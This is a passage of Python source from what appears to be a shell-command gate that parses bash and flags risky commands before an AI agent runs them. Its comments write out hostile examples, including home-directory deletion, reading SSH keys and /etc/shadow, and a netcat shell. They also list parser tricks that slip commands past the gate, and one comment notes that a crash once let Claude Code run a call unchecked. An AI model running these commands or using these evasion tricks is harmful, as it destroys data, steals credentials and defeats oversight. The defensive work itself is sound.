        name as code). Unquoted, bash would split it at blanks and glob it again."""
        name = raw[2:-1] if raw.startswith("${") and raw.endswith("}") else raw[1:]
        value = self.bound.get(name)
        if value is None:
            return None
        self.spent += len(value.text)
        if self.spent > _MAX_BOUND_CHARS:
            return None  # past the budget, `$f` is as unknown as any other variable
        if value.dynamic:
            return value  # a word of `$(…)`'s output: as unknown as the substitution
        if quoted:
            return value if whole or not value.glob else None
        text = value.text
        if value.glob or not text or " " in text or "\t" in text or "\n" in text:
            return None
        if "*" in text or "?" in text or "[" in text:
            return Word(text, False, True)  # a quoted loop word, expanded when unquoted
        return value

    def looped(self, item: _Item, heredoc_of: Node | None) -> bool:
        """Build a command that uses loop variables once per binding (True), if it does."""
        copies = self.bindings(item.node)
        if copies is None:
            return False
        for binding in copies:
            self.bound = binding
            self.command(item, heredoc_of)
        self.bound = {}
        self.resolved = True
        return True

    def looped_statement(self, item: _Item) -> bool:
        """A simple command with redirects that uses loop variables (`echo x > "$f"`), built
        once per binding with its redirects (True), if it does. (A compound body is walked
        after the binding is gone: its redirect's `$f` stays unknown.)"""
        body = item.node.child_by_field_name("body")
        if body is None or body.type != "command":
            return False
        copies = self.bindings(item.node)
        if copies is None:
            return False
        for binding in copies:
            self.bound = binding
            self.redirected(item)
        self.bound = {}
        self.resolved = True
        return True

    def command(self, item: _Item, heredoc_of: Node | None = None) -> None:
        if self.loops and not self.bound and self.looped(item, heredoc_of):
            return
        node = item.node
        words: list[Word] = []
        assignments: list[tuple[str, Word]] = []
        redirects = list(item.redirects)
        piped = item.piped
        spilled = len(self.spilled)
        spilled_redirects = len(self.spilled_redirects)
        for i, child in enumerate(node.children):
            kind = child.type
            if kind == "variable_assignment" and not words:
                self.subscript_commands(child, item.where)
                value = child.child_by_field_name("value")
                word = self.word(value, item.where) if value is not None else Word("")
                if _appends(child):
                    word = Word(word.text, True)  # `PAGER+=x`: the old value, then x
                assignments.append((self.assignment_name(child), word))
            elif kind == "command_name":
                inner = [c for c in child.children if c.is_named]
                words.append(self.word(inner[0] if inner else child, item.where))
                if words[0].text in _CLOSERS and self.text(child) == words[0].text:
                    self.closer(words, node)
            elif kind in _REDIRECTS:
                r = self.redirect(child, item.where)
                if r is not None:
                    redirects.append(r)
                if kind in ("heredoc_redirect", "herestring_redirect"):
                    piped = True
            elif child.is_named or node.field_name_for_child(i) == "argument":
                if kind == "comment":
                    continue
                word = self.word(child, item.where, kind)
                words.extend(self.alternatives or (word,))  # `cat {/etc/shadow,x}`: two words
        if item.fd_word and words:
            words.pop()  # `0<f rm -rf ~`: tree-sitter-bash reads the `0` as a word
        if len(self.spilled) > spilled or item.extra:  # `cat 2>/dev/null ~/.ssh/id_rsa`
            words += [*self.spilled[spilled:], *item.extra]
            del self.spilled[spilled:]
        if len(self.spilled_redirects) > spilled_redirects:
            redirects += self.spilled_redirects[spilled_redirects:]
            del self.spilled_redirects[spilled_redirects:]
        if words:
            head = words[0]
            if head.dynamic:
                self.problem("GK-SHELL-003", "the command name is computed at run time", node)
            elif head.glob:
                self.problem("GK-SHELL-005", "the command name is a glob or brace expansion", node)
        command = Command(
            tuple(words),
            tuple(assignments),
            tuple(redirects),
            item.where,
            self.clip(node),
            piped,
            self.source,
        )
        self.commands.append(command)
        if assignments:
            self.value_commands(assignments, node, item.where)
        if heredoc_of is not None and words and _feeds_shell(command):
            # A here-document fed to a shell is a script: judge every command in it.
            body = _heredoc_body_text(heredoc_of, self)
            if body:
                if self.depth >= MAX_DEPTH:
                    self.problem("GK-SHELL-006", "shell scripts nested too deep to follow", node)
                else:
                    sub = parse(body, self._home, where="heredoc", depth=self.depth + 1)
                    self.commands.extend(sub.commands)
                    self.problems.extend(sub.problems)
        if redirects and words and self.depth < MAX_DEPTH:
            _herestring_script(command, self)

    def value_commands(self, assigned: list[tuple[str, Word]], node: Node, where: str) -> None:
        """The commands a program runs from a variable's value, judged as commands of the
        text: `PAGER='rm -rf ~' git log` runs `rm -rf ~` (`envvars.VALUE_KINDS`), whether
        the value is a prefix, a statement or a declaration's (`export PAGER=…; git log`)."""
        from gatekeeper.shell.envvars import VALUE_KINDS, value_script

        for name, word in assigned:
            texts: list[str | None]
            if name in VALUE_KINDS:
                texts = [value_script(name, word.text)]
            elif name.startswith("GIT_CONFIG_"):
                texts = [*self.git_config_lines(name, word, assigned)]
            else:
                continue  # (most assignments)
            for text in texts:
                if not text or not text.strip():
                    continue
                if self.depth >= MAX_DEPTH:
                    self.problem("GK-SHELL-006", "shell scripts nested too deep to follow", node)
                    return
                label = f"${name}" if where == "top" else f"${name}, {where}"
                sub = parse(text, self._home, where=label, depth=self.depth + 1)
                self.commands.extend(sub.commands)
                self.problems.extend(sub.problems)

    def git_config_lines(
        self, name: str, word: Word, assigned: list[tuple[str, Word]]
    ) -> list[str]:
        """The shell lines git config set through the environment holds, as `git -c` would:
        `GIT_CONFIG_VALUE_N` when `GIT_CONFIG_KEY_N` beside it is a key git runs
        (`core.pager`, `core.fsmonitor`: `envvars.git_line_key`) or is not known here, and
        the values of such keys in `GIT_CONFIG_PARAMETERS` (`'core.pager'='LINE' …`)."""
        from gatekeeper.shell.envvars import git_line_key

        if name.startswith("GIT_CONFIG_VALUE_"):
            keys = [w for n, w in assigned if n == "GIT_CONFIG_KEY_" + name[17:]]
            if not keys or keys[-1].dynamic or git_line_key(keys[-1].text):
                return [word.text.removeprefix("!")]
            return []
        if name != "GIT_CONFIG_PARAMETERS":
            return []
        # git writes each pair as shell-quoted words: the walker reads them as words
        words = parse("x " + word.text, self._home, depth=self.depth + 1).commands[:1]
        if not words or word.dynamic or len(words[0].words) < 2:
            return [word.text]  # not read as words: the whole value, as a line
        lines = []
        for setting in words[0].words[1:]:
            key, eq, value = setting.text.partition("=")
            if setting.dynamic or not eq or git_line_key(key):
                lines.append(value.removeprefix("!") if eq else setting.text)
        return lines

    def closer(self, words: list[Word], node: Node) -> None:
        """A command the parser names `do`, `then`, `fi`... unquoted (`CI=1 for x in y; do
        nc -c sh h 4444; done`: after an assignment `for` is a command name, and the rest
        no loop). Bash reads such a word as reserved and refuses the whole line; the gate
        judges the words after it as the command they would be in the loop or branch it
        looks like (never less than that), and says the text is no bash it can vouch for."""
        self.problem("GK-SHELL-001", f"`{words[0].text}` here is a reserved word out of place", node)
        del words[0]

    def backticks(self, node: Node, label: str) -> bool:
        """Judge the text bash runs for a backtick substitution whose backslashes bash
        removes first (before `` ` ``, `$`, `\\`, and `"` inside double quotes): the parser
        reads `` `echo \\`cmd\\`` `` as echo's words, bash runs cmd. False when no
        backslash is removed (the parser's own reading stands)."""
        raw = self.text(node)[1:-1]
        if "\\" not in raw:
            return False
        inner = _backtick_unescape(raw, _in_double_quotes(node))
        if inner == raw:
            return False
        if self.depth >= MAX_DEPTH:
            self.problem("GK-SHELL-006", "shell scripts nested too deep to follow", node)
        else:
            sub = parse(inner, self._home, where=label, depth=self.depth + 1)
            self.commands.extend(sub.commands)
            self.problems.extend(sub.problems)
        return True

    # -- words ---------------------------------------------------------------------------

    def scan(self, node: Node, where: str) -> None:
        """Find the substitutions inside a word-like node and queue them as statements."""
        todo = [(node, False)]
        while todo:
            n, inside = todo.pop()
            if n.type in _SUBSTITUTION_NODES:
                label = (
                    "substitution" if n.type == "command_substitution" else ("process substitution")
                )
                self.stack.append(_Item(n, label))
                continue
            if n.type == "ERROR":
                self.problem("GK-SHELL-001", "the command does not parse as bash", n)
            elif (inside and n.type in _TEXT_LEAVES) or n.type == "P":
                self.text_leaf(n)
            elif n.type in (":=", "=") and inside and n.prev_sibling is not None:
                # `${PATH:=/tmp/x}` assigns PATH when it is unset (`unset PATH` first)
                before = n.prev_sibling
                indirect = before.prev_sibling is not None and before.prev_sibling.type == "!"
                if before.type in ("variable_name", "subscript") and not indirect:
                    self.exported_name(self.text(before), n)
                else:  # `${!x:=/tmp/x}`, `$(( $x = 1 ))`: whichever variable x names
                    self.runtime_name(n)
            inside = inside or n.type in _EXPANDING
            todo.extend((c, inside) for c in n.children)

    def text_leaf(self, n: Node) -> None:
        """A leaf the parser leaves as text where bash expands: `${X#$(cmd)}` (a `regex`),
        `${X:-`cmd`}` (a `word`), `$(( '$(cmd)' ))` and `"${X:-'$(cmd)'}"` (quotes are
        characters there), `${X@P}`."""
        if n.type == "P":
            self.problem("GK-BASH-006", "`${…@P}` expands a value as a prompt: its `$( )` run", n)
        elif "$(" in (text := self.text(n)) or "`" in text:
            self.problem("GK-SHELL-001", "a command substitution the parser reads as text", n)
        elif "=" in text and n.type == "word":
            from gatekeeper.shell.envvars import arith_names

            for name in arith_names(text):  # `${a[PATH=1]}`: a subscript that assigns
                self.exported_name(name, n)

    def word(self, node: Node, where: str, kind: str = "") -> Word:
        """Resolve a word node to its text; mark it dynamic where the shell would expand.

        A brace expansion (`{a,b}`, unquoted) leaves the words it makes in `alternatives`
        (more words than this limit, or a sequence `{a..z}`, make the word dynamic).
        `kind` is the node's type when the caller has it already.
        """
        self.alternatives = None
        if (
            (kind or node.type) == "word"
            and not node.is_missing
            and not ("{" in (raw_node := self.text(node)) and "}" in raw_node)
        ):
            # Most words are one `word` leaf: the loop below, for that node alone.
            text, glob = _unquoted_word(raw_node, at_start=True)
            if text.startswith("~"):
                if text == "~" or text.startswith("~/"):
                    text = self.home + text[1:]
                else:
                    return Word(text, True, glob)  # ~user
            if glob and (text[:1] == "." or "/." in text):
                self.alternatives = _climbing(Word(text, False, glob))
            return Word(text, False, glob)
        parts: list[str] = []
        # Per part, per character: an unquoted `{`, `,`, `}` counts. A part that can hold no
        # such character is its length (all False): a `$( )` part holds all the text nested
        # in it, and a list per level would make deep nesting quadratic in Python's time.
        marks: list[list[bool] | int] = []
        dynamic = False
        glob = False
        first = True
        todo: list[tuple[Node, bool]] = [(node, False)]
        while todo:
            n, quoted = todo.pop()
            kind = n.type
            # A literal is kept whole; an expansion or a `$( )` (text nested in it) is clipped
            raw = (
                self.text(n)
                if kind in _LITERAL_PARTS or n.end_byte - n.start_byte <= TEXT_CLIP
                else self.clip(n)
            )
            while len(marks) < len(parts):  # parts other than unquoted words: never special
                marks.append(len(parts[len(marks)]))
            if n.is_missing:
                self.problem("GK-SHELL-001", "the command is incomplete (a token is missing)", n)
                dynamic = True
                continue
            if kind == "word":
                text, has_glob = _unquoted_word(raw, at_start=first and not parts)
                special = _unescaped(raw) if not quoted else [False] * len(text)
                if text.startswith("~") and not parts:
                    if text == "~" or text.startswith("~/"):
                        text = self.home + text[1:]
                        special = [False] * len(self.home) + special[1:]
                    else:
                        dynamic = True  # ~user
                glob = glob or has_glob
                parts.append(text)
                marks.append(special if len(special) == len(text) else [False] * len(text))
            elif kind == "raw_string":
                parts.append(raw[1:-1])
            elif kind == "ansi_c_string":
                parts.append(_ansi_c(raw[2:-1]))
            elif kind in ("string", "translated_string", "concatenation"):
                todo.extend((c, quoted or kind != "concatenation") for c in reversed(n.children))
            elif kind == "string_content":
                parts.append(_dq_unescape(raw))
            elif kind in ('"', "$"):
                if kind == "$" and not quoted:
                    parts.append("$")
                continue
            elif kind == "number":
                parts.append(raw)
            elif kind in ("simple_expansion", "expansion"):
                known = self.known_variable(n)
                if known is not None:
                    parts.append(known)
                elif self.bound and (
                    (value := self.bound_value(raw, quoted, self._quoted_alone(node, n)))
                    is not None
                ):
                    parts.append(value.text)  # `"$f"` in `for f in *.py`: each file
                    glob = glob or value.glob
                    dynamic = dynamic or value.dynamic
                else:
                    dynamic = True
                    parts.append(raw)
                    self.scan(n, where)
                    if kind == "simple_expansion" and raw[1:2] in (" ", "\t", "\n", "\\"):
                        # `ls x\<NL> $ <NL>rm -rf ~`: the parser made `$ <NL>rm` one expansion;
                        # to bash `$` is a word and rm the next command
                        self.problem("GK-SHELL-001", "a `$` the parser joins to what follows", n)
            elif kind in _SUBSTITUTION_NODES:
                dynamic = True
                parts.append(raw)
                self.scan(n, where)
            elif kind in ("arithmetic_expansion", "brace_expression"):
                dynamic = True
                glob = glob or kind == "brace_expression"
                parts.append(raw)
                self.scan(n, where)
            elif kind in {"extglob_pattern", "regex"}:
                glob = True
                parts.append(raw)
            elif kind == "ERROR":
                self.problem("GK-SHELL-001", "the command does not parse as bash", n)
                dynamic = True
                parts.append(raw)
            else:
                dynamic = True
                parts.append(raw)
                self.scan(n, where)
            first = False
        while len(marks) < len(parts):
            marks.append(len(parts[len(marks)]))
        text = "".join(parts)
        if dynamic and node.end_byte - node.start_byte > TEXT_CLIP:
            from gatekeeper.shell.clipnames import cut_references

            text += cut_references(node, self.src, TEXT_CLIP)  # the `$NAME`s a cut part held
        if "}" in text and any(type(m) is list and "{" in p for p, m in zip(parts, marks, strict=True)):
            flags: list[bool] = []
            for m in marks:
                flags.extend([False] * m if isinstance(m, int) else m)
            made = _brace_expand(text, flags) if len(flags) == len(text) else None
            if made is None:
                dynamic = True  # `{a..z}`, or more words than the gate follows
            elif len(made) > 1:
                self.alternatives = [self._tilde(t, f, dynamic) for t, f in made]
        if glob and self.alternatives is None and (text[:1] == "." or "/." in text):
            self.alternatives = _climbing(Word(text, dynamic, glob))
        return Word(text, dynamic, glob)

    def _tilde(self, text: str, flags: list[bool], dynamic: bool) -> Word:
        """A word brace expansion made, tilde-expanded as bash does after it (`{~,x}`), a
        glob when an unquoted `*`, `?` or `[` is left in it."""
        glob = any(f and c in "*?[" for c, f in zip(text, flags, strict=True))
        if text.startswith("~") and flags[:1] == [True]:
            if text == "~" or text.startswith("~/"):
                return Word(self.home + text[1:], dynamic, glob)
            return Word(text, True, glob)  # ~user
        return Word(text, dynamic, glob)

    def _quoted_alone(self, node: Node, part: Node) -> bool:
        """Whether the word `node` is `"PART"`: the part and its two quotes, nothing else."""
        if node.end_byte - node.start_byte != part.end_byte - part.start_byte + 2:
            return False
        return self.text(node) == f'"{self.text(part)}"'

    def known_variable(self, node: Node) -> str | None:
        """The value of `$HOME` / `${HOME}`; None for any other expansion."""
        raw = self.text(node)
        if raw in ("$HOME", "${HOME}"):
            return self.home
        return None


_REDIRECTS = {"file_redirect", "heredoc_redirect", "herestring_redirect"}


# Compound commands whose body may run or not (or more than once): an assignment in it is
# its value or the one before, both judged (`Walker.assigned`).
_MAYBE_RUN = frozenset(
    {
        "if_statement", "elif_clause", "else_clause", "do_group", "while_statement",
        "for_statement", "c_style_for_statement", "case_statement", "case_item",
        "function_definition",
    }
)  # fmt: skip


def _backgrounded(statement: Node, parent: Node) -> bool:
    """Whether `statement`, a child of `parent`, is sent to the background (`f=x &`, `f=x
    && a &`): it runs in a subshell then (True too when it is no child, to be safe). A `&`
    after another statement leaves it alone (`f=~/.ssh/id_rsa; cat "$f" &` reads the key)."""
    children = parent.children
    for i, child in enumerate(children):
        if child.start_byte == statement.start_byte and child.end_byte == statement.end_byte:
            return i + 1 < len(children) and children[i + 1].type == "&"
    return True


# The reserved words that start a compound command, and a second `!`: after `!`,
# tree-sitter-bash reads them as a command name (`! { rm -rf ~; }` was a command `{` with
# the words `rm -rf ~;`, then a command `}`).
_COMPOUND_WORDS = frozenset(
    {b"!", b"{", b"if", b"while", b"until", b"for", b"case", b"select", b"function"}
)


def _negated_compound(src: bytes, root: Node) -> bytes | None:
    """`src` with the `!` blanked before each compound command the parser misread (see
    `_COMPOUND_WORDS`), or None when there is none. bash runs `! { rm -rf ~; }`, `! if rm
    -rf ~; then :; fi` and `! case x in x) rm -rf ~;; esac` as the compound, negating only
    its status; the tree had an unknown command `{` or `if` (the reviewer's) and no `rm`."""
    spans: list[int] = []
    stack = [root]
    while stack:
        node = stack.pop()
        if node.type == "negated_command":
            inner = node.named_children
            if inner and inner[0].type == "command":
                name = inner[0].child_by_field_name("name")
                if name is not None and src[name.start_byte : name.end_byte] in _COMPOUND_WORDS:
                    spans.append(node.start_byte)
                    if src[name.start_byte : name.end_byte] == b"!":
                        spans.extend(_bang_chain(inner[0], src))
        stack.extend(node.children)
    if not spans:
        return None
    out = bytearray(src)
    for start in spans:
        out[start : start + 1] = b" "
    return bytes(out)


def _appends(assignment: Node) -> bool:
    """Whether a `variable_assignment` appends (`NAME+=x`): its value is then the old one
    and x, not known statically."""
    return assignment.child_count > 2 and assignment.children[1].type == "+="


def _bang_chain(command: Node, src: bytes) -> list[int]:
    """Where the `!`s of a chain start, for `! ! ! ls` read as a command `!` with the
    words `! ls`: its name and each `!` word after it, up to the first other child. bash
    runs `ls` (the `!`s only negate its status); all are blanked in one round."""
    starts: list[int] = []
    for child in command.children:
        if src[child.start_byte : child.end_byte] != b"!":
            break
        starts.append(child.start_byte)
    return starts


def _prepared(text: str) -> tuple[str, bytes, Tree]:
    """`text` parsed, as bash reads it where tree-sitter-bash does not: `{fd}>` redirects
    and the reserved word `time`."""
    src = text.encode("utf-8", "surrogateescape")
    tree = tree_of(src)
    if tree.root_node.has_error and (b"}>" in src or b"}<" in src):
        text, src, tree = _brace_descriptors(text, src, tree)
    if b"time" in src:
        text, src, tree = _reserved_time(text, src, tree)
    return text, src, tree


def _unnegated_text(src: bytes, tree: Tree) -> bytes | None:
    """`_negated_compound` of a text, or None at once when no `!` is a word of its own (a
    blank follows bash's `!`: `"fix!"` needs no tree scan)."""
    if b"! " in src or b"!\t" in src or b"!\n" in src:
        return _negated_compound(src, tree.root_node)
    return None


# Rounds of `_both_readings`, each a parse and a walk of the whole text: a chain of `!`
# takes one (`_bang_chain`), each `! {` inside a `! {` one more.
_UNNEGATIONS = 4


def _both_readings(
    text: str,
    unnegated: bytes,
    home: str | Callable[[], str],
    where: str,
    depth: int,
    *,
    sliced: bool,
) -> Script:
    """The commands and problems of `text` as the parser read it and of `unnegated` (the
    same text without the `!` before a compound command: what bash runs), all judged.
    Each round of blanking may uncover another `!` the parser misread (`! ! ! ls`, `! { !
    { ls; }; }`): a loop, not a recursion (a chain of 500 `!` was a RecursionError), and
    past `_UNNEGATIONS` rounds the rest is not read (GK-SHELL-006). Only findings are added,
    so the dominant verdict never falls; every reading's `cd`s count, and none is taken
    for a certain `cd DIR &&` chain."""
    readings = [_walk_text(text, home, where, depth, sliced=sliced, negations=False)]
    problems: list[Problem] = []
    rounds = 0
    next_text: bytes | None = unnegated
    while next_text is not None:
        rounds += 1
        if rounds > _UNNEGATIONS:
            clip = next_text[:200].decode("utf-8", "replace")
            problems.append(Problem("GK-SHELL-006", "`!` nested too deep to follow", clip))
            break
        text, src, tree = _prepared(next_text.decode("utf-8", "surrogateescape"))
        readings.append(_walk_text(text, home, where, depth, sliced=sliced, negations=False))
        next_text = _unnegated_text(src, tree)
    return Script(
        tuple(c for r in readings for c in r.commands),
        (*(p for r in readings for p in r.problems), *problems),
        False,
        tuple(dict.fromkeys(a for r in readings for a in r.assigned)),
    )


def _unnegated(node: Node, src: bytes) -> Node:
    """The pipeline a `!` negates, for a redirect tree-sitter hangs on the whole statement:
    bash runs `! git 2>/dev/null push --force` as git push with the redirect (the parser
    read `git` alone, negated, and `push --force` as words after the redirect), and gives
    `! bash <<'EOF'` its here-document. `!(` is left alone (a glob with extglob)."""
    while node.type == "negated_command" and src[node.start_byte + 1 : node.start_byte + 2] != b"(":
        inner = [c for c in node.children if c.is_named]
        if len(inner) != 1:
            break
        node = inner[0]
    return node


def _glued_descriptor(body: Node, statement: Node, src: bytes) -> bool:
    """Whether the command `body` ends with a number glued to the redirect after it: the
    redirect's descriptor, which tree-sitter-bash reads as a word (`0<f rm -rf ~` was the
    command `0`; `cat 0<f x`, `cat 0 x`)."""
    last = body.named_children[-1] if body.named_children else None
    if last is not None and last.type == "command_name" and last.named_children:
        last = last.named_children[0]
    if last is None:
        return False
    after = next((c for c in statement.children if c.start_byte >= body.end_byte), None)
    return _descriptor_of(last, after, src)


def _descriptor_of(word: Node, after: Node | None, src: bytes) -> bool:
    """Whether `word` (a number, or `{name}`) is glued to the redirect `after` as its
    descriptor: tree-sitter-bash reads `0<f` and `{fd}>f` as a word and a redirect.
    Its text is sliced from `src`: `Node.text` of a tree parsed through a callback (a
    watched text, see `_parse`) crashed the process (SIGSEGV: no stdout, so Claude Code
    ran the call)."""
    if after is None or after.type not in _REDIRECTS or after.start_byte != word.end_byte:
        return False
    if any(c.type == "file_descriptor" for c in after.children):
        return False
    if word.type == "number":
        return True
    text = src[word.start_byte : word.end_byte].decode("utf-8", "replace")
    name = text[1:-1]  # `{fd}`: a variable's name between braces
    return text[:1] == "{" and text[-1:] == "}" and name.isascii() and name.isidentifier()


def _next_is_input_redirect(node: Node, index: int) -> bool:
    following = node.children[index + 1] if index + 1 < len(node.children) else None
    return (
        following is not None
        and following.type == "file_redirect"
        and bool(following.children)
        and following.children[0].type == "<"
    )


# Commands that run the rest of their argv: `timeout 5 bash <<EOF` feeds the shell too, and
# so does every wrapper and runner `plugins.wrappers` knows (`chrt -o 0 bash <<< '…'`,
# `strace -o log bash <<EOF`; tests/test_fuzz14.py compares the two).
_RUNNERS = {"timeout", "nice", "nohup", "env", "command", "builtin", "exec", "stdbuf", "time"}
_RUNNERS |= {"sudo", "doas", "setsid", "ionice", "chronic", "unbuffer", "flock", "taskset"}
_RUNNERS |= {
    "abduco", "alacritty", "asdf", "aws-vault", "bear", "bundle", "bwrap", "caffeinate",
    "calife", "capsh", "catchsegv", "ccache", "cgexec", "chamber", "chpst", "chroot",
    "chrt", "conda", "coproc", "cpulimit", "csh", "daemonize", "dbus-launch",
    "dbus-run-session", "devbox", "direnv", "distcc", "distrobox", "distrobox-enter",
    "doppler", "dotenv", "dotenvx", "dtach", "dumb-init", "eatmydata", "elvish", "entr",
    "envdir", "envuidgid", "fakeroot", "faketime", "firejail", "fish", "flatpak-spawn",
    "foot", "gnome-terminal", "goenv", "gosu", "hatch", "heaptrack", "hyperfine", "ifne",
    "infisical", "intercept-build", "jenv", "keep-one-running", "kitty", "konsole", "ksu",
    "lckdo", "ld-linux-aarch64.so.1", "ld-linux-x86-64.so.2", "ld.so", "linux32", "linux64",
    "ltrace", "machinectl", "mamba", "memusage", "micromamba", "mise", "newgrp", "nix",
    "nix-shell", "nocache", "nodenv", "noglob", "nsenter", "nu", "numactl", "nvm", "op",
    "pdm", "pee", "perf", "pipenv", "pixi", "pkexec", "pnpm", "poetry", "prlimit", "proot",
    "proxychains", "proxychains4", "pwsh", "pyenv", "rbenv", "rlwrap", "rr", "rtx",
    "run-one", "run-one-constantly", "run-one-until-failure", "run-one-until-success",
    "run-this-one", "run0", "runcon", "runuser", "rye", "s6-setuidgid", "sandbox",
    "sandbox-exec", "scan-build", "sccache", "schroot", "screen", "setarch", "setpriv",
    "setuidgid", "sg", "softlimit", "sops", "ssh-agent", "sshpass", "st",
    "start-stop-daemon", "strace", "su", "su-exec", "sudoedit", "systemd-cat",
    "systemd-inhibit", "systemd-nspawn", "systemd-run", "tcsh", "terminator", "tini",
    "toolbox", "torsocks", "trickle", "unshare", "urxvt", "uxterm", "valgrind", "watchexec",
    "wezterm", "with-contenv", "xcrun", "xfce4-terminal", "xonsh", "xterm", "xvfb-run",
    "yarn"
}


def _feeds_shell(command: Command) -> bool:
    names = [w.text.rsplit("/", 1)[-1] for w in command.words]
    at = 0
    while at < len(names) and names[at] in _RUNNERS:
        at += 1
        while at < len(names) and names[at] not in _SHELLS and names[at] not in _RUNNERS:
            at += 1  # the wrapper's own options and values (`timeout 5`, `env X=1`)
    return (
        at < len(names)
        and names[at] in _SHELLS
        and not any(w.startswith("-") and "c" in w for w in names[at + 1 :])
    )


def _herestring_script(command: Command, walker: _Walker) -> None:
    """A here-string fed to a shell is a script, as a here-document is: `bash <<< 'rm -rf
    ~'` runs rm (it was only "a shell reading stdin", REVIEW). Its commands are judged."""
    for redirect in command.redirects:
        if redirect.op == "<<<" and not redirect.target.dynamic and _feeds_shell(command):
            sub = parse(redirect.target.text, walker._home, "here-string", walker.depth + 1)
            walker.commands.extend(sub.commands)
            walker.problems.extend(sub.problems)


def _unparsed_in_body(redirect: Node, body: Node, walker: _Walker) -> bool:
    """Whether a here-document whose delimiter is unquoted (no quote or backslash in it)
    holds an unescaped backtick, or a `$(`, `${` or `$[` outside every node the parser made
    of the body: bash expands them all."""
    src = walker.src[body.start_byte : body.end_byte]
    if b"`" not in src and b"$" not in src:
        return False
    for child in redirect.children:
        if child.type == "heredoc_start" and any(c in walker.text(child) for c in "'\"\\"):
            return False
    spans = [(c.start_byte, c.end_byte) for c in body.children if c.type != "heredoc_content"]
    escaped = False
    for at, c in enumerate(src):
        if escaped:
            escaped = False
        elif c == 0x5C:  # a backslash
            escaped = True
        elif c == 0x60:  # a backtick
            return True
        elif c == 0x24 and src[at + 1 : at + 2] in (b"(", b"{", b"["):
            where = body.start_byte + at
            if not any(start <= where < end for start, end in spans):
                return True
    return False


def _ends_elsewhere(redirect: Node, body: Node, walker: _Walker) -> bool:
    """Whether bash ends the here-document at another line than tree-sitter-bash did.

    bash removes every quote from the delimiter word (`E"O"F` is `EOF`, `$'E\\x4fF'` is
    `EOF`); the parser compares some forms literally, and reads the lines after bash's end
    (which bash runs as commands) as the body."""
    raw = ""
    end = ""
    for child in redirect.children:
        if child.type == "heredoc_start":
            raw = walker.text(child)
        elif child.type == "heredoc_end":
            end = walker.text(child)
    if not any(c in raw for c in "'\"\\$"):
        return False  # no quote to remove: the parser looks for the same text bash does
    delimiter = _here_delimiter(raw)
    if end and end != delimiter:
        return True
    tabs = any(c.type == "<<-" for c in redirect.children)
    lines = walker.text(body).split("\n")[:-1]  # the last piece is the end line's indent
    return any((line.lstrip("\t") if tabs else line) == delimiter for line in lines)


def _climbing(word: Word) -> list[Word] | None:
    """The word and the words it is when a component like `.*` matches `..`, or None.

    Bash before 5.2, and 5.2 with `shopt -u globskipdots`, matches `.` and `..` with a
    pattern that starts with a `.`: `cat .*/.ssh/config` run in ~/proj reads
    ~/.ssh/config, and `cp -r .*/.ssh /tmp/k` copies the keys. The policy judges a glob by
    its literal prefix (`.`), and a directory listing never shows `..`; so each such
    component is also read as `..` (all of them; and all but the last, which stays a
    glob: `.*/.aws/.*`), and every checker judges those words too."""
    from gatekeeper.globmatch import fnmatchcase

    parts = word.text.split("/")
    marks = [
        i
        for i, part in enumerate(parts)
        if part[:1] == "." and ("*" in part or "?" in part or "[" in part)
        and fnmatchcase("..", part)
    ]
    if not marks:
        return None
    words = [word]
    for climbed in (marks, marks[:-1]):
        if not climbed:
            continue
        text = "/".join(".." if i in climbed else p for i, p in enumerate(parts))
        glob = any(c in text for c in "*?[")
        words.append(Word(text, word.dynamic, glob))
    return words


def _here_delimiter(raw: str) -> str:
    """The line that ends a here-document to bash: the word after `<<` with its quotes
    removed (`$'...'` decoded, `$"..."` read as `"..."`)."""
    out: list[str] = []
    i = 0
    while i < len(raw):
        ch = raw[i]
        if ch == "\\" and i + 1 < len(raw):
            out.append(raw[i + 1])
            i += 2
        elif ch == "'":
            end = raw.find("'", i + 1)
            end = len(raw) if end < 0 else end
            out.append(raw[i + 1 : end])
            i = end + 1
        elif ch == '"' or (ch == "$" and raw[i + 1 : i + 2] in ("'", '"')):
            quote = raw[i + 1] if ch == "$" else ch
            start = j = i + 2 if ch == "$" else i + 1
            while j < len(raw) and raw[j] != quote:
                j += 2 if raw[j] == "\\" else 1
            inside = raw[start:j]
            out.append(_ansi_c(inside) if quote == "'" else _dq_unescape(inside))
            i = j + 1
        else:
            out.append(ch)
            i += 1
    return "".join(out)


def _in_double_quotes(node: Node) -> bool:
    """Whether a substitution stands inside double quotes (`"`cmd`"`, `"${x:-`cmd`}"`)."""
    parent = node.parent
    while parent is not None and parent.type not in _SUBSTITUTION_NODES:
        if parent.type == "string":
            return True
        if parent.type in ("command", "program", "variable_assignment"):
            return False
        parent = parent.parent
    return False


def _backtick_unescape(raw: str, quoted: bool) -> str:
    """The text bash parses inside backticks: a backslash before `` ` ``, `$` or `\\` (and
    `"` inside double quotes) is removed, any other stays."""
    special = '`$\\"' if quoted else "`$\\"
    out: list[str] = []
    i = 0
    while i < len(raw):
        if raw[i] == "\\" and i + 1 < len(raw) and raw[i + 1] in special:
            out.append(raw[i + 1])
            i += 2
        else:
            out.append(raw[i])
            i += 1
    return "".join(out)


def _heredoc_body_text(statement: Node, walker: _Walker) -> str | None:
    for child in statement.children:
        if child.type == "heredoc_redirect":
            return _heredoc_text(child, walker)
    return None


def _heredoc_text(node: Node, walker: _Walker) -> str:
    for child in node.children:
        if child.type == "heredoc_body":
            return walker.text(child)
    return ""


_GLOB_CHARS = set("*?[")


def _unquoted_word(raw: str, *, at_start: bool) -> tuple[str, bool]:
    """Quote removal for an unquoted word: `\\x` → `x`; report unescaped glob characters."""
    del at_start
    if "\\" not in raw and "*" not in raw and "?" not in raw and "[" not in raw and "{" not in raw:
        return raw, False  # no quote to remove, nothing to expand: the loop would copy it
    out: list[str] = []
    glob = False
    i = 0
    while i < len(raw):
        ch = raw[i]
        if ch == "\\" and i + 1 < len(raw):
            nxt = raw[i + 1]
            if nxt != "\n":  # backslash-newline is a line continuation: both vanish
                out.append(nxt)
            i += 2
            continue
        if ch in _GLOB_CHARS:
            glob = True
        elif ch == "{" and ("," in raw[i:] or ".." in raw[i:]) and "}" in raw[i:]:
            glob = True  # brace expansion
        out.append(ch)
        i += 1
    return "".join(out), glob


def _unescaped(raw: str) -> list[bool]:
    """Per character of `_unquoted_word(raw)`'s text: True unless a backslash escaped it."""
    flags: list[bool] = []
    i = 0
    while i < len(raw):
        if raw[i] == "\\" and i + 1 < len(raw):
            if raw[i + 1] != "\n":
                flags.append(False)
            i += 2
            continue
        flags.append(True)
        i += 1
    return flags


_MAX_BRACE_WORDS = 64


def _brace_expand(text: str, flags: list[bool]) -> list[tuple[str, list[bool]]] | None:
    """Bash's brace expansion of a word whose unquoted characters are marked in `flags`:
